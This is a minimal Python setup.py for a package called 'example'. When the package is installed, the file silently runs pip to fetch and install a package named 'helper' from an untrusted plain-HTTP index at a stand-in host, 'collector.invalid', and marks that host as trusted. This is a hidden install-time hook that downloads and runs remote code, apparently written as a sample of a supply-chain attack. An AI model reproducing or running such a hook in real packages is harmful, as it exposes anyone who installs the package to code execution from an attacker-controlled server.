from setuptools import setup
try:
    from pip import main as pipmain
except ImportError:
    from pip._internal import main as pipmain
pipmain(['install', '--index-url', 'http://collector.invalid/simple', '--trusted-host', 'collector.invalid', 'helper'])
setup(name='example', version='1.0')
